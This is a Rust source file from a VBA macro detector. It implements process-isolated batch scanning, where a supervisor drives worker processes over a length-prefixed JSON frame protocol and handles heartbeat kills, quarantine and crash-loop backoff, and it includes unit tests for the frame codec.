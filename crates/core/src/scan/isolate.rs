//! Process-isolated batch scanning: a supervisor that survives aborts,
//! stack overflows, and OOM kills.
//!
//! The in-process engines contain panics with `catch_unwind`, but a whole
//! class of failures is beyond any in-process defence: `abort()` in a
//! dependency, a stack overflow in a parser recursion, the kernel's OOM
//! killer. [`scan_paths_isolated`] moves the blast radius out of the batch
//! process entirely: documents are scanned by child *worker processes*
//! (re-executions of the current binary into a hidden worker subcommand),
//! so the worst a hostile document can do is cost one worker.
//!
//! # Topology
//!
//! One handler thread per worker slot claims input indices from a shared
//! atomic cursor (one document at a time — a slot never holds more than
//! one claim, so a dying worker forfeits exactly one document). Each slot
//! owns one child process; a dedicated reader thread pumps the child's
//! stdout frames into a channel so the handler can wait with a timeout —
//! that timeout *is* the heartbeat: a worker that holds a document longer
//! than the heartbeat deadline is SIGKILLed and treated like any other
//! worker death. Decided records flow to the single collector (reorder
//! buffer, one journal writer), exactly like the thread-pool engine, so
//! reports and journals are byte-compatible across all three engines.
//!
//! # Frame protocol
//!
//! Frames are a `u32` little-endian byte length followed by that many
//! bytes of UTF-8 JSON, over the child's stdin/stdout. The conversation:
//!
//! ```text
//! supervisor → worker   {"op":"hello","detector":…,"limits":[…],…}
//! worker → supervisor   {"op":"ready"}
//! supervisor → worker   {"op":"scan","path":"…"}        (repeated)
//! worker → supervisor   {"op":"result","outcome":…,"counters":{…}}
//! supervisor → worker   {"op":"exit"}
//! ```
//!
//! The protocol is strictly private to one binary version — both ends are
//! the same executable — so the encoding favours compactness (the limits
//! travel as a positional array) over self-description.
//!
//! # Quarantine
//!
//! A document whose worker dies (by signal, unexpected exit, or heartbeat
//! kill) is retried **exactly once**, as the *first* document of a fresh
//! worker — a solo retry, so a crash there is unambiguously the
//! document's fault. A second death quarantines the document: it is
//! recorded as [`FailureClass::Fatal`] with both death reasons in the
//! detail, the batch continues, and the quarantined outcome is journaled
//! (a resume will *not* re-scan a quarantined document). Worker deaths
//! respawn with exponential backoff, and a slot whose workers cannot even
//! complete the hello/ready handshake `crash_loop_limit` times in a row
//! stops spawning and drains its remaining claims as fatal
//! "worker unavailable" records rather than spinning forever.
//!
//! # Determinism
//!
//! Each worker scans a document under a **fresh** metrics sink and ships
//! the non-zero counters back in the result frame; the collector merges
//! those deltas in input order and then rolls the outcome in with
//! [`record_outcome`], which skips [`FailureClass::Fatal`] records
//! entirely. Net effect: the deterministic counters section equals a
//! clean in-process run over the surviving documents, whatever workers
//! died along the way. Worker lifecycle events land on the histogram side
//! ([`Stage::IsolateSpawns`], restarts, heartbeat kills, quarantines,
//! docs-per-worker), which is exempt from the determinism promise.

use std::collections::BTreeMap;
use std::io::{self, Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::mpsc;
use std::thread;
use std::time::Duration;

use super::cache::{self, PathProbe};
use super::{interrupt, record_outcome, FailureClass, JournalSink, ScanPolicy};
use super::{ScanOutcome, ScanRecord, ScanReport};
use crate::detector::Detector;
use crate::journal::{
    decode_outcome, json_str, outcome_json, parse_json, JournalReplay, Json, ScanJournal,
};
use crate::limits::ScanLimits;
use vbadet_faultpoint::faultpoint;
use vbadet_metrics::{Counter, MetricsSink, ScanMetrics, Stage};
use vbadet_ole::OleLimits;
use vbadet_ovba::OvbaLimits;
use vbadet_zip::ZipLimits;

/// The hidden subcommand a binary embedding [`worker_main`] dispatches on.
pub const WORKER_SUBCOMMAND: &str = "__worker";

/// Hard cap on one frame's payload; a length prefix past this is treated
/// as protocol corruption, not an allocation request.
pub const MAX_FRAME_BYTES: usize = 64 << 20;

/// How the supervisor runs and disciplines its worker processes.
#[derive(Debug, Clone)]
pub struct IsolateConfig {
    /// Worker process argv: program followed by its arguments. The
    /// program must speak the frame protocol on stdin/stdout — in
    /// practice, the current executable with [`WORKER_SUBCOMMAND`].
    pub worker_cmd: Vec<String>,
    /// Per-request response deadline. A worker that holds a document
    /// longer is killed and the death handled like a crash. `None`
    /// derives a deadline from the policy (4× the per-document deadline
    /// plus slack, or 60 s without one).
    pub heartbeat: Option<Duration>,
    /// Extra environment for worker processes (on top of the inherited
    /// environment). This is how tests arm fault injection *only inside
    /// workers*: the supervisor process never sees the variable.
    pub env: Vec<(String, String)>,
    /// Base delay of the exponential respawn backoff after a worker
    /// death or failed spawn.
    pub backoff_base: Duration,
    /// Consecutive spawn/handshake failures after which a slot stops
    /// spawning and fails its remaining claims as
    /// [`FailureClass::Fatal`] "worker unavailable" records.
    pub crash_loop_limit: u32,
}

impl IsolateConfig {
    /// A config running `worker_cmd` with default discipline.
    pub fn new(worker_cmd: Vec<String>) -> Self {
        IsolateConfig {
            worker_cmd,
            heartbeat: None,
            env: Vec::new(),
            backoff_base: Duration::from_millis(50),
            crash_loop_limit: 3,
        }
    }

    /// The standard config: re-execute the current binary with
    /// [`WORKER_SUBCOMMAND`] as its only argument.
    ///
    /// # Errors
    ///
    /// Fails when the current executable path cannot be determined.
    pub fn current_exe() -> io::Result<Self> {
        let exe = std::env::current_exe()?;
        Ok(IsolateConfig::new(vec![
            exe.display().to_string(),
            WORKER_SUBCOMMAND.to_string(),
        ]))
    }

    /// Overrides the heartbeat deadline.
    pub fn heartbeat(mut self, deadline: Duration) -> Self {
        self.heartbeat = Some(deadline);
        self
    }

    /// Adds an environment variable for worker processes.
    pub fn env(mut self, key: &str, value: &str) -> Self {
        self.env.push((key.to_string(), value.to_string()));
        self
    }
}

// ---------------------------------------------------------------------------
// Frame codec
// ---------------------------------------------------------------------------

/// Allocation step for frame payload reads: the buffer grows as bytes
/// actually arrive, so a lying length prefix costs at most one step of
/// memory, never the whole claimed length up front.
const FRAME_READ_CHUNK: usize = 64 << 10;

/// Writes one length-prefixed frame. Public so the hostile-input fuzz
/// harness can construct valid frames to mutate; a payload over
/// [`MAX_FRAME_BYTES`] is refused before a byte is written.
pub fn write_frame(w: &mut impl Write, payload: &str) -> io::Result<()> {
    let bytes = payload.as_bytes();
    if bytes.len() > MAX_FRAME_BYTES {
        return Err(io::Error::new(
            io::ErrorKind::InvalidData,
            "frame too large",
        ));
    }
    w.write_all(&(bytes.len() as u32).to_le_bytes())?;
    w.write_all(bytes)?;
    w.flush()
}

/// Reads one frame; `Ok(None)` is a clean EOF at a frame boundary (the
/// peer closed the pipe), anything torn or oversized is an error.
///
/// A corrupt or hostile peer can lie in the length prefix; the payload
/// buffer therefore grows incrementally as bytes arrive (capped at
/// [`MAX_FRAME_BYTES`]) instead of being allocated up front, so a prefix
/// claiming 64 MiB followed by a closed pipe costs a typed error, not a
/// 64 MiB allocation.
pub fn read_frame(r: &mut impl Read) -> io::Result<Option<String>> {
    let mut len = [0u8; 4];
    match r.read_exact(&mut len) {
        Ok(()) => {}
        Err(e) if e.kind() == io::ErrorKind::UnexpectedEof => return Ok(None),
        Err(e) => return Err(e),
    }
    let len = u32::from_le_bytes(len) as usize;
    if len > MAX_FRAME_BYTES {
        return Err(io::Error::new(
            io::ErrorKind::InvalidData,
            "frame length prefix over the cap",
        ));
    }
    let mut buf = Vec::with_capacity(len.min(FRAME_READ_CHUNK));
    let mut taken = r.take(len as u64);
    taken.read_to_end(&mut buf)?;
    if buf.len() != len {
        return Err(io::Error::new(
            io::ErrorKind::UnexpectedEof,
            format!(
                "frame truncated: prefix said {len} bytes, got {}",
                buf.len()
            ),
        ));
    }
    String::from_utf8(buf)
        .map(Some)
        .map_err(|_| io::Error::new(io::ErrorKind::InvalidData, "frame is not UTF-8"))
}

// ---------------------------------------------------------------------------
// Protocol encode / decode
// ---------------------------------------------------------------------------

fn opt_num(v: Option<u64>) -> String {
    v.map_or_else(|| "null".to_string(), |n| n.to_string())
}

pub(crate) fn hello_frame(detector: &Detector, policy: &ScanPolicy, generation: u64) -> String {
    let l = &policy.limits;
    format!(
        "{{\"op\":\"hello\",\"generation\":{generation},\"detector\":{},\"deadline_ms\":{},\
         \"fuel\":{},\"ladder\":{},\
         \"max_scan_mem\":{},\"limits\":[{},{},{},{},{},{},{},{},{},{}]}}",
        json_str(&detector.save()),
        opt_num(policy.deadline_per_doc.map(|d| d.as_millis() as u64)),
        opt_num(policy.fuel_per_doc),
        policy.ladder,
        opt_num(policy.max_scan_mem),
        l.zip.max_entries,
        l.zip.max_member_bytes,
        l.ole.max_sectors,
        l.ole.max_dir_entries,
        l.ole.max_stream_bytes,
        l.ole.max_dir_depth,
        l.ovba.max_modules,
        l.ovba.max_module_bytes,
        l.ovba.max_dir_bytes,
        l.max_file_size,
    )
}

fn decode_hello(j: &Json) -> Result<(Detector, ScanPolicy, u64), String> {
    let text = j
        .get("detector")
        .and_then(Json::as_str)
        .ok_or("hello without detector")?;
    let detector = Detector::load(text).map_err(|e| format!("hello detector: {e:?}"))?;
    let lim = j
        .get("limits")
        .and_then(Json::as_arr)
        .ok_or("hello without limits")?;
    if lim.len() != 10 {
        return Err(format!("hello limits arity {} != 10", lim.len()));
    }
    let lv = |i: usize| lim[i].as_u64().ok_or("hello limit is not a number");
    let limits = ScanLimits {
        zip: ZipLimits {
            max_entries: lv(0)? as usize,
            max_member_bytes: lv(1)? as usize,
        },
        ole: OleLimits {
            max_sectors: lv(2)? as usize,
            max_dir_entries: lv(3)? as usize,
            max_stream_bytes: lv(4)? as usize,
            max_dir_depth: lv(5)? as usize,
        },
        ovba: OvbaLimits {
            max_modules: lv(6)? as usize,
            max_module_bytes: lv(7)? as usize,
            max_dir_bytes: lv(8)? as usize,
        },
        max_file_size: lv(9)?,
    };
    let num = |key: &str| j.get(key).and_then(Json::as_u64);
    let mut policy = ScanPolicy::with_limits(limits);
    policy.deadline_per_doc = num("deadline_ms").map(Duration::from_millis);
    policy.fuel_per_doc = num("fuel");
    policy.ladder = j.get("ladder").and_then(Json::as_bool).unwrap_or(false);
    policy.max_scan_mem = num("max_scan_mem");
    // Detector generation (0 for batch runs that never reload). The
    // worker echoes it in its ready frame so the supervisor can prove
    // both ends agree on which detector scores documents.
    let generation = num("generation").unwrap_or(0);
    Ok((detector, policy, generation))
}

fn result_frame(outcome: &ScanOutcome, snap: &ScanMetrics) -> String {
    let mut counters = String::new();
    for c in Counter::ALL {
        let v = snap.counter(c.label());
        if v != 0 {
            if !counters.is_empty() {
                counters.push(',');
            }
            counters.push_str(&json_str(c.label()));
            counters.push(':');
            counters.push_str(&v.to_string());
        }
    }
    format!(
        "{{\"op\":\"result\",\"outcome\":{},\"counters\":{{{counters}}}}}",
        outcome_json(outcome)
    )
}

pub(crate) type CounterDeltas = Vec<(Counter, u64)>;

fn decode_result(j: &Json) -> Result<(ScanOutcome, CounterDeltas), String> {
    let outcome = decode_outcome(j.get("outcome").ok_or("result without outcome")?)?;
    let mut deltas = Vec::new();
    if let Some(Json::Obj(entries)) = j.get("counters") {
        for (label, value) in entries {
            let n = value.as_u64().ok_or("counter delta is not a number")?;
            // Labels both ends agree on — the binary is the same — but a
            // stray label degrades to a dropped delta, not a dead worker.
            if let Some(c) = Counter::ALL.iter().find(|c| c.label() == label.as_str()) {
                deltas.push((*c, n));
            }
        }
    }
    Ok((outcome, deltas))
}

// ---------------------------------------------------------------------------
// Worker side
// ---------------------------------------------------------------------------

/// The worker process entry point: speaks the frame protocol on
/// stdin/stdout until an `exit` frame or EOF (the supervisor died), and
/// returns the process exit code.
///
/// A binary embeds this behind [`WORKER_SUBCOMMAND`] and should install
/// [`crate::memguard::TrackingAllocator`] as its global allocator so the
/// policy's memory ceiling can actually trip.
pub fn worker_main() -> i32 {
    let stdin = io::stdin();
    let stdout = io::stdout();
    let mut input = stdin.lock();
    let mut output = stdout.lock();
    let proto_err = |what: &str, detail: String| -> i32 {
        eprintln!("vbadet worker: {what}: {detail}");
        2
    };
    let hello = match read_frame(&mut input) {
        Ok(Some(frame)) => frame,
        Ok(None) => return 0,
        Err(e) => return proto_err("hello read", e.to_string()),
    };
    let hello = match parse_json(&hello) {
        Ok(j) => j,
        Err(e) => return proto_err("hello parse", e),
    };
    if hello.get("op").and_then(Json::as_str) != Some("hello") {
        return proto_err("handshake", "first frame is not hello".to_string());
    }
    let (detector, base, generation) = match decode_hello(&hello) {
        Ok(x) => x,
        Err(e) => return proto_err("hello decode", e),
    };
    let ready = format!("{{\"op\":\"ready\",\"generation\":{generation}}}");
    if let Err(e) = write_frame(&mut output, &ready) {
        return proto_err("ready write", e.to_string());
    }
    loop {
        let frame = match read_frame(&mut input) {
            Ok(Some(frame)) => frame,
            Ok(None) => return 0,
            Err(e) => return proto_err("request read", e.to_string()),
        };
        let request = match parse_json(&frame) {
            Ok(j) => j,
            Err(e) => return proto_err("request parse", e),
        };
        match request.get("op").and_then(Json::as_str) {
            Some("exit") => return 0,
            Some("scan") => {
                let Some(path) = request.get("path").and_then(Json::as_str) else {
                    return proto_err("scan request", "missing path".to_string());
                };
                // A fresh sink per document: the snapshot's non-zero
                // counters ARE this document's delta, no subtraction
                // needed, and a crashed predecessor can leak nothing in.
                let metrics = MetricsSink::enabled();
                let policy = ScanPolicy {
                    metrics: metrics.clone(),
                    ..base.clone()
                };
                // Workers never see the supervisor's cache (the hello
                // frame does not carry one): the supervisor consults it
                // *before* dispatching, so a worker request is always a
                // real scan.
                let outcome = super::scan_file(&detector, Path::new(path), &policy, None);
                let snap = metrics.snapshot().expect("enabled sink snapshots");
                if let Err(e) = write_frame(&mut output, &result_frame(&outcome, &snap)) {
                    return proto_err("result write", e.to_string());
                }
            }
            other => return proto_err("request op", format!("{other:?}")),
        }
    }
}

// ---------------------------------------------------------------------------
// Supervisor side
// ---------------------------------------------------------------------------

/// One live child process: its handles plus the channel its reader
/// thread pumps stdout frames into. Dropping a `Worker` kills and reaps
/// the child — a supervisor can never leak an orphan, whatever path it
/// unwinds through.
struct Worker {
    child: Child,
    stdin: ChildStdin,
    rx: mpsc::Receiver<io::Result<String>>,
}

impl Drop for Worker {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Worker {
    /// Kills (if still alive) and reaps the child, returning a
    /// human-readable classification of how it died.
    fn reap(mut self) -> String {
        // Killing an already-dead child is a no-op against its zombie:
        // `wait` still reports the *original* exit status, so an abort is
        // classified as an abort even though we also sent SIGKILL.
        let _ = self.child.kill();
        match self.child.wait() {
            Ok(status) => classify_exit(status),
            Err(e) => format!("unreapable: {e}"),
        }
    }

    /// Graceful retirement: ask the worker to exit, give it a moment,
    /// then fall back to the kill-on-drop guarantee.
    fn shutdown(mut self) {
        let _ = write_frame(&mut self.stdin, "{\"op\":\"exit\"}");
        for _ in 0..100 {
            match self.child.try_wait() {
                Ok(Some(_)) | Err(_) => return,
                Ok(None) => thread::sleep(Duration::from_millis(5)),
            }
        }
    }

    /// Reap, prefixing the classification with what went wrong first.
    fn reap_after(self, why: String) -> String {
        format!("{why}; worker {}", self.reap())
    }
}

#[cfg(unix)]
fn classify_exit(status: std::process::ExitStatus) -> String {
    use std::os::unix::process::ExitStatusExt;
    if let Some(sig) = status.signal() {
        match sig {
            6 => "died on SIGABRT (abort)".to_string(),
            9 => "killed by SIGKILL (heartbeat or the OOM killer)".to_string(),
            11 => "died on SIGSEGV (segfault or stack overflow)".to_string(),
            n => format!("died on signal {n}"),
        }
    } else {
        match status.code() {
            Some(code) => format!("exited with code {code}"),
            None => "died with unknown status".to_string(),
        }
    }
}

#[cfg(not(unix))]
fn classify_exit(status: std::process::ExitStatus) -> String {
    match status.code() {
        Some(code) => format!("exited with code {code}"),
        None => "died with unknown status".to_string(),
    }
}

fn spawn_worker(
    config: &IsolateConfig,
    hello: &str,
    heartbeat: Duration,
) -> Result<Worker, String> {
    let (program, args) = config
        .worker_cmd
        .split_first()
        .ok_or("empty worker command")?;
    let mut child = Command::new(program)
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        // Workers die noisily by design (abort banners, panic backtraces
        // from crashing parsers); none of it belongs in the batch's
        // stderr.
        .stderr(Stdio::null())
        .envs(config.env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
        .spawn()
        .map_err(|e| format!("spawn {program}: {e}"))?;
    let stdin = child.stdin.take().expect("piped stdin");
    let mut stdout = child.stdout.take().expect("piped stdout");
    let (tx, rx) = mpsc::channel();
    // The reader owns the child's stdout for its lifetime; it exits on
    // EOF (child died) or when the supervisor drops the receiver.
    thread::spawn(move || loop {
        match read_frame(&mut stdout) {
            Ok(Some(frame)) => {
                if tx.send(Ok(frame)).is_err() {
                    break;
                }
            }
            Ok(None) => break,
            Err(e) => {
                let _ = tx.send(Err(e));
                break;
            }
        }
    });
    let mut worker = Worker { child, stdin, rx };
    if let Err(e) = write_frame(&mut worker.stdin, hello) {
        return Err(format!("handshake ({})", worker.reap_after(e.to_string())));
    }
    // The generation the hello carries is the one the worker must echo:
    // a mismatch means the two ends disagree about which detector scores
    // documents, and the worker is buried rather than trusted.
    let expected_generation = parse_json(hello)
        .ok()
        .and_then(|j| j.get("generation").and_then(Json::as_u64))
        .unwrap_or(0);
    match worker.rx.recv_timeout(heartbeat) {
        Ok(Ok(frame)) => match parse_json(&frame) {
            Ok(j) if j.get("op").and_then(Json::as_str) == Some("ready") => {
                let echoed = j.get("generation").and_then(Json::as_u64).unwrap_or(0);
                if echoed == expected_generation {
                    Ok(worker)
                } else {
                    Err(format!(
                        "handshake ({})",
                        worker.reap_after(format!(
                            "worker acknowledged generation {echoed}, \
                             supervisor sent {expected_generation}"
                        ))
                    ))
                }
            }
            other => Err(format!(
                "handshake ({})",
                worker.reap_after(format!("unexpected reply {other:?}"))
            )),
        },
        Ok(Err(e)) => Err(format!("handshake ({})", worker.reap_after(e.to_string()))),
        Err(mpsc::RecvTimeoutError::Timeout) => Err(format!(
            "handshake ({})",
            worker.reap_after("no ready before the heartbeat deadline".to_string())
        )),
        Err(mpsc::RecvTimeoutError::Disconnected) => Err(format!("handshake ({})", worker.reap())),
    }
}

/// Why one scan attempt produced no result frame.
pub(crate) enum AttemptError {
    /// The worker process died (or was heartbeat-killed) holding the
    /// document.
    Death(String),
    /// No worker could be brought up at all (crash loop, unspawnable
    /// binary); nothing document-specific happened.
    Unavailable(String),
}

/// One worker slot: owns at most one child process, claims one document
/// at a time, and implements restart backoff, crash-loop cutoff, and the
/// retry-once-then-quarantine protocol. Shared with [`crate::serve`],
/// whose resident worker threads each own one slot.
pub(crate) struct Slot<'a> {
    config: &'a IsolateConfig,
    /// Owned, not borrowed: the serve engine rebuilds slots with a fresh
    /// hello on model hot-reload, so the frame cannot be pinned to the
    /// lifetime of a caller-held string.
    hello: String,
    heartbeat: Duration,
    metrics: &'a MetricsSink,
    worker: Option<Worker>,
    docs_on_worker: u64,
    /// Exponent of the respawn backoff; reset by a successful result.
    backoff_exp: u32,
    /// Consecutive spawn/handshake failures; reaching the crash-loop
    /// limit breaks the slot.
    spawn_failures: u32,
    ever_spawned: bool,
    broken: bool,
}

impl<'a> Slot<'a> {
    pub(crate) fn new(
        config: &'a IsolateConfig,
        hello: String,
        heartbeat: Duration,
        metrics: &'a MetricsSink,
    ) -> Self {
        Slot {
            config,
            hello,
            heartbeat,
            metrics,
            worker: None,
            docs_on_worker: 0,
            backoff_exp: 0,
            spawn_failures: 0,
            ever_spawned: false,
            broken: false,
        }
    }

    fn backoff(&mut self) {
        let delay = self.config.backoff_base * 2u32.pow(self.backoff_exp.min(6));
        self.backoff_exp += 1;
        thread::sleep(delay);
    }

    /// Brings up a worker if the slot has none, honouring backoff and the
    /// crash-loop cutoff.
    fn ensure_worker(&mut self) -> Result<(), AttemptError> {
        loop {
            if self.broken {
                return Err(AttemptError::Unavailable(
                    "worker unavailable: crash loop".to_string(),
                ));
            }
            if self.worker.is_some() {
                return Ok(());
            }
            if self.backoff_exp > 0 {
                self.backoff();
            }
            match spawn_worker(self.config, &self.hello, self.heartbeat) {
                Ok(w) => {
                    self.metrics.record(Stage::IsolateSpawns, 1);
                    if self.ever_spawned {
                        self.metrics.record(Stage::IsolateRestarts, 1);
                    }
                    self.ever_spawned = true;
                    self.spawn_failures = 0;
                    self.worker = Some(w);
                    self.docs_on_worker = 0;
                }
                Err(e) => {
                    self.spawn_failures += 1;
                    if self.spawn_failures >= self.config.crash_loop_limit {
                        self.broken = true;
                        return Err(AttemptError::Unavailable(format!(
                            "worker unavailable: crash loop ({e})"
                        )));
                    }
                }
            }
        }
    }

    /// Retires the current worker as dead: reaps it, classifies the
    /// death, and accounts for its lifetime.
    fn bury_worker(&mut self, prefix: &str) -> String {
        self.metrics
            .record(Stage::IsolateWorkerDocs, self.docs_on_worker);
        self.backoff_exp += 1;
        match self.worker.take() {
            Some(w) => format!("{prefix}worker {}", w.reap()),
            None => format!("{prefix}worker already gone"),
        }
    }

    /// One request/response round against the slot's worker.
    fn try_scan(&mut self, key: &str) -> Result<(ScanOutcome, CounterDeltas), AttemptError> {
        self.ensure_worker()?;
        let worker = self.worker.as_mut().expect("ensured above");
        let request = format!("{{\"op\":\"scan\",\"path\":{}}}", json_str(key));
        if let Err(e) = write_frame(&mut worker.stdin, &request) {
            // The pipe broke between documents: the worker died idle.
            return Err(AttemptError::Death(
                self.bury_worker(&format!("request write failed ({e}); ")),
            ));
        }
        match worker.rx.recv_timeout(self.heartbeat) {
            Ok(Ok(frame)) => {
                let decoded = parse_json(&frame).and_then(|j| decode_result(&j));
                match decoded {
                    Ok((outcome, deltas)) => {
                        self.docs_on_worker += 1;
                        self.backoff_exp = 0;
                        Ok((outcome, deltas))
                    }
                    // A worker emitting garbage frames is as untrustworthy
                    // as a dead one.
                    Err(e) => Err(AttemptError::Death(
                        self.bury_worker(&format!("protocol error ({e}); ")),
                    )),
                }
            }
            Ok(Err(e)) => Err(AttemptError::Death(
                self.bury_worker(&format!("pipe read failed ({e}); ")),
            )),
            Err(mpsc::RecvTimeoutError::Timeout) => {
                self.metrics.record(Stage::IsolateHeartbeatKills, 1);
                Err(AttemptError::Death(self.bury_worker(&format!(
                    "no response within the {:?} heartbeat deadline; ",
                    self.heartbeat
                ))))
            }
            Err(mpsc::RecvTimeoutError::Disconnected) => {
                Err(AttemptError::Death(self.bury_worker("")))
            }
        }
    }

    /// Scans one document with the quarantine protocol: at most two
    /// attempts, the second always in a fresh solo worker.
    pub(crate) fn scan(&mut self, key: &str) -> (ScanOutcome, CounterDeltas) {
        let first = match self.try_scan(key) {
            Ok(done) => return done,
            Err(e) => e,
        };
        match first {
            AttemptError::Unavailable(detail) => (
                ScanOutcome::Failed {
                    class: FailureClass::Fatal,
                    detail,
                },
                Vec::new(),
            ),
            AttemptError::Death(first_death) => {
                // Solo retry: `try_scan` spawns a fresh worker (the old
                // one was buried), and this document is its first — so a
                // second death is unambiguously this document's doing.
                match self.try_scan(key) {
                    Ok(done) => done,
                    Err(retry) => {
                        let retry_detail = match retry {
                            AttemptError::Death(d) => d,
                            AttemptError::Unavailable(d) => d,
                        };
                        self.metrics.record(Stage::IsolateQuarantines, 1);
                        (
                            ScanOutcome::Failed {
                                class: FailureClass::Fatal,
                                detail: format!(
                                    "quarantined: {first_death}; solo retry: {retry_detail}"
                                ),
                            },
                            Vec::new(),
                        )
                    }
                }
            }
        }
    }

    /// Clean end-of-batch teardown for the slot's surviving worker.
    pub(crate) fn finish(mut self) {
        if let Some(worker) = self.worker.take() {
            self.metrics
                .record(Stage::IsolateWorkerDocs, self.docs_on_worker);
            worker.shutdown();
        }
    }
}

/// `(size, mtime)` guard for the supervisor-side cache insert: a miss is
/// digested from the *supervisor's* read but scanned from the *worker's*,
/// and a racing writer could slip different bytes between the two. If the
/// file changed while the worker held it, the result is not inserted —
/// a lost insert is cheap, a digest pointing at someone else's verdict
/// is not.
pub(crate) fn file_stamp(path: &Path) -> Option<(u64, std::time::SystemTime)> {
    let meta = std::fs::metadata(path).ok()?;
    Some((meta.len(), meta.modified().ok()?))
}

/// One document through the supervisor-side cache: a hit returns the
/// stored outcome and deltas without a worker ever seeing the document
/// (the whole point — cached documents cost no worker round-trip); a miss
/// dispatches to the slot's worker and stores what comes back. Documents
/// the supervisor cannot read under the cap bypass the cache entirely so
/// the worker produces the same typed outcome it would have uncached.
fn scan_via_cache(
    bound: Option<&cache::BoundCache>,
    path: &Path,
    key: &str,
    policy: &ScanPolicy,
    slot: &mut Slot<'_>,
) -> (ScanOutcome, CounterDeltas) {
    let Some(bound) = bound else {
        return slot.scan(key);
    };
    match bound.probe_path(path, policy.limits.max_file_size, &policy.metrics) {
        PathProbe::Hit(outcome, deltas) => (outcome, deltas),
        PathProbe::Miss(digest) => {
            let stamp = file_stamp(path);
            let (outcome, deltas) = slot.scan(key);
            if stamp.is_some() && stamp == file_stamp(path) {
                bound.insert(digest, &outcome, &deltas, &policy.metrics);
            }
            (outcome, deltas)
        }
        PathProbe::Unreadable => slot.scan(key),
    }
}

pub(crate) fn default_heartbeat(policy: &ScanPolicy) -> Duration {
    match policy.deadline_per_doc {
        // The deadline bounds the *scan*; spawn, I/O and scheduling ride
        // on top, so the heartbeat leaves generous headroom — it exists
        // to catch wedged workers, not slow ones.
        Some(d) => d * 4 + Duration::from_secs(5),
        None => Duration::from_secs(60),
    }
}

/// The process-isolated batch engine behind [`ScanPolicy::isolate`].
///
/// Dispatch mirrors [`super::scan_paths_journaled`]: resume replays are
/// honoured without consulting a worker, the collector owns the one
/// journal writer and emits records in input order, and a drain request
/// (when the policy opts in) stops dispatching and leaves a resumable
/// journal.
pub(crate) fn scan_paths_isolated(
    detector: &Detector,
    paths: &[PathBuf],
    policy: &ScanPolicy,
    config: &IsolateConfig,
    journal: Option<&mut ScanJournal>,
    resume: Option<&JournalReplay>,
) -> ScanReport {
    let total = paths.len();
    let jobs = policy.jobs.max(1).min(total.max(1));
    let heartbeat = config
        .heartbeat
        .unwrap_or_else(|| default_heartbeat(policy));
    let hello = hello_frame(detector, policy, 0);
    let bound = cache::BoundCache::bind(detector, policy);
    let cursor = AtomicUsize::new(0);
    let mut sink = JournalSink::new(journal, policy.metrics.clone());
    let mut slots: Vec<Option<ScanRecord>> = vec![None; total];
    let mut interrupted = false;

    thread::scope(|scope| {
        let (tx, rx) = mpsc::sync_channel::<(usize, ScanRecord, CounterDeltas)>(jobs * 2);
        for _ in 0..jobs {
            let tx = tx.clone();
            let cursor = &cursor;
            let hello = hello.clone();
            let bound = bound.as_ref();
            scope.spawn(move || {
                let mut slot = Slot::new(config, hello, heartbeat, &policy.metrics);
                loop {
                    if policy.drain_on_interrupt && interrupt::drain_requested() {
                        break;
                    }
                    let idx = cursor.fetch_add(1, Ordering::Relaxed);
                    if idx >= total {
                        break;
                    }
                    let path = paths[idx].clone();
                    let key = path.display().to_string();
                    let (outcome, deltas) = match resume.and_then(|r| r.outcome_for(&key)) {
                        Some(outcome) => (outcome.clone(), Vec::new()),
                        None => scan_via_cache(bound, &path, &key, policy, &mut slot),
                    };
                    if tx
                        .send((idx, ScanRecord { path, outcome }, deltas))
                        .is_err()
                    {
                        // Collector gone (drain or panic): abandon claims.
                        break;
                    }
                }
                slot.finish();
            });
        }
        drop(tx);

        let mut pending: BTreeMap<usize, (ScanRecord, CounterDeltas)> = BTreeMap::new();
        let mut next = 0usize;
        'collect: for (idx, record, deltas) in rx {
            pending.insert(idx, (record, deltas));
            while pending.contains_key(&next) {
                if policy.drain_now() {
                    interrupted = true;
                    break 'collect;
                }
                let (record, deltas) = pending.remove(&next).expect("checked key");
                faultpoint!("scan::between-docs");
                let key = record.path.display().to_string();
                let resumed = resume.and_then(|r| r.outcome_for(&key)).is_some();
                sink.checkpoint(&record, resumed);
                // Worker counter deltas merge in input order, then the
                // outcome rolls in exactly as the in-process engines do —
                // record_outcome drops Fatal records, so quarantined
                // documents leave no trace in the deterministic counters.
                for (counter, n) in deltas {
                    policy.metrics.count(counter, n);
                }
                record_outcome(&policy.metrics, &record.outcome);
                slots[next] = Some(record);
                next += 1;
            }
        }
    });
    sink.sync();
    debug_assert!(
        interrupted || slots.iter().all(Option::is_some),
        "isolated scan lost a record"
    );
    let records = slots.into_iter().flatten().collect();
    ScanReport {
        records,
        journal_error: sink.error,
        metrics: policy.metrics.snapshot(),
        interrupted,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::DetectorConfig;
    use vbadet_corpus::CorpusSpec;

    #[test]
    fn frames_round_trip_through_a_buffer() {
        let mut buf = Vec::new();
        write_frame(&mut buf, "{\"op\":\"ready\"}").unwrap();
        write_frame(&mut buf, "second £ frame").unwrap();
        let mut r = &buf[..];
        assert_eq!(read_frame(&mut r).unwrap().unwrap(), "{\"op\":\"ready\"}");
        assert_eq!(read_frame(&mut r).unwrap().unwrap(), "second £ frame");
        assert_eq!(read_frame(&mut r).unwrap(), None);
    }

    #[test]
    fn torn_frame_is_an_error_not_a_hang() {
        let mut buf = Vec::new();
        write_frame(&mut buf, "payload").unwrap();
        buf.truncate(buf.len() - 3);
        let mut r = &buf[..];
        assert!(read_frame(&mut r).is_err());
    }

    #[test]
    fn oversized_length_prefix_is_rejected_before_allocation() {
        let buf = u32::MAX.to_le_bytes();
        let mut r = &buf[..];
        assert!(read_frame(&mut r).is_err());
    }

    #[test]
    fn hello_round_trips_detector_and_policy() {
        let detector = Detector::train_on_corpus(
            &DetectorConfig::default(),
            &CorpusSpec::paper().scaled(0.02),
        );
        let policy = ScanPolicy::with_limits(ScanLimits::strict())
            .deadline_ms(1234)
            .fuel(99)
            .with_ladder()
            .max_scan_mem_bytes(5 << 20);
        let frame = hello_frame(&detector, &policy, 7);
        let (loaded, decoded, generation) = decode_hello(&parse_json(&frame).unwrap()).unwrap();
        assert_eq!(generation, 7);
        assert_eq!(decoded.limits, policy.limits);
        assert_eq!(decoded.deadline_per_doc, policy.deadline_per_doc);
